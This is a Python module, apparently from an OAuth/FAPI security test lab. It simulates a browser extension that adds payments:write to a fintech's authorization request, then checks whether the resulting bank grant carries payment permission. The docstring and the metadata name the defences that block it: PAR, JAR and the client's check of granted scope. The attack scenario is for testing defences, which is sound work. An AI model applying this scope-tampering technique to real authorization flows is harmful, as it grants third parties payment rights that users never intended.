"""authz-request-scope-tampering: the victim's browser widens the request he approves.

UA: an extension in the victim's browser rewrites the authorization request FinLens sends
him to, adding payments:write to scope (adding scope when the URL has none). The scripted
victim approves what the consent page shows; FinLens redeems. Goal: FinLens keeps a grant
with payment permission it never asked for (later abused by MT or UA). The extension sees
the victim's pages, so the outcome is read where the victim can see it: FinLens's dashboard
and the new card on his bank's "Connected apps" page. The lab has no account pre-selection
to drop. PAR leaves nothing to widen (RFC 9126 §4, FAPI2 §5.3.3.1: only client_id and
request_uri in the front channel); F1P1 §5.2.3 / RFC 6749 §5.1: the client compares granted
with requested scope and discards the rest.
"""

from __future__ import annotations

import html
import re

import requests

from attacker import frontchannel as fc
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.victim import HttpVictim, VictimRefused

CARD_FIELDS = {"client_id": r"client_id <code>([^<]*)</code>",
               "scope": r"scope <code>([^<]*)</code>",
               "grant_id": r'name="grant_id" value="([^"]*)"'}


class OnlineBanking:
    """The victim's own online banking in his browser: the "Connected apps" page."""

    def __init__(self, ctx: AttackContext, victim: HttpVictim) -> None:
        self.ctx, self.victim, self.bank = ctx, victim, ctx.config.bank_url
        http = victim.http
        page = http.get(self.bank + "/login", timeout=30)
        step = http.post(self.bank + "/login", timeout=30, data={
            "username": victim.username, "password": victim.agent.password,
            "csrf_token": fc.csrf_token(page.text)})
        done = http.post(self.bank + "/login/code", timeout=30, data={
            "code": victim.agent.second_factor(), "csrf_token": fc.csrf_token(step.text)})
        for response in (page, step, *done.history, done):
            ctx.note_request(response, actor="victim")
        ctx.step("victim", "signs in to his online banking", status=done.status_code)

    def apps(self) -> list[dict[str, str]]:
        """One {client_id, scope, grant_id} per card of the "Connected apps" page."""
        response = self.victim.http.get(self.bank + "/connected-apps", timeout=30)
        self.ctx.note_request(response, actor="victim")
        self.ctx.step("victim", "opens \"Connected apps\" at his bank", url=response.url,
                      status=response.status_code)
        cards = []
        for card in response.text.split('<div class="card">')[1:]:
            found = {name: re.search(pattern, card) for name, pattern in CARD_FIELDS.items()}
            cards.append({k: html.unescape(m.group(1)) if m else "" for k, m in found.items()})
        return cards


def _widen(url: str) -> str:
    scope = fc.query_of(url).get("scope", "openid")
    if fc.PAYMENT_SCOPE in scope.split():
        return url
    return fc.with_query(url, scope=f"{scope} {fc.PAYMENT_SCOPE}")


def run(ctx: AttackContext) -> None:
    victim = ctx.victim("alice")
    banking = OnlineBanking(ctx, victim)
    before = {app["grant_id"] for app in banking.apps()}
    victim.sign_in()
    url = victim.browser.start_link("honestbank")
    ctx.step("victim", "clicks \"Link honestbank\"", url=url)
    widened = _widen(url)
    ctx.step("attacker", "the extension adds payments:write to the request's scope",
             url=widened)
    result = victim.agent.authorize(widened)
    for response in result.history:
        ctx.note_request(response, actor="victim")
    if result.callback_url is None or result.error:
        raise VictimRefused(f"the AS refused the rewritten authorization request: "
                            f"{result.error or result.response.status_code}",
                            _refusal(result.response))
    ctx.step("victim", "signs in, passes SCA and approves what the consent page shows")
    victim.deliver(result.callback_url)
    if not fc.account_ids(victim.dashboard()):
        ctx.failed("FinLens kept no working HonestBank link")
    client_id = fc.query_of(url).get("client_id", "tpp")
    new = [app for app in banking.apps()
           if app["grant_id"] not in before and app["client_id"] == client_id]
    if not new or fc.PAYMENT_SCOPE not in new[0]["scope"].split():
        ctx.failed("FinLens's new grant at the bank has no payment permission "
                   f"({new[0]['scope'] if new else 'no new grant'})")
    ctx.succeeded("FinLens holds a grant with payments:write that the user did not mean to "
                  "give (the bank's Connected apps page lists it)", new[0])


def _refusal(response: requests.Response) -> dict[str, object]:
    return {"status": response.status_code, "url": response.url, "body": response.text[:500]}


ATTACK = Attack(
    id="authz-request-scope-tampering", attacker="UA", legs=(), victim="live",
    title="Extension widens the request the victim approves",
    blocked_by=("par_required", "jar_required", "tpp_checks_granted_scope"),
    premise="An extension in the victim's browser reads and rewrites his front channel; no "
            "back channel, no keys, no capture.",
    goal="FinLens's grant carries payment permission the user did not intend", run=run,
    refs=("F1P2 §8.4.2", "RFC 9101 §5", "RFC 9126 §4", "F1P1 §5.2.3", "RFC 6749 §5.1"),
)
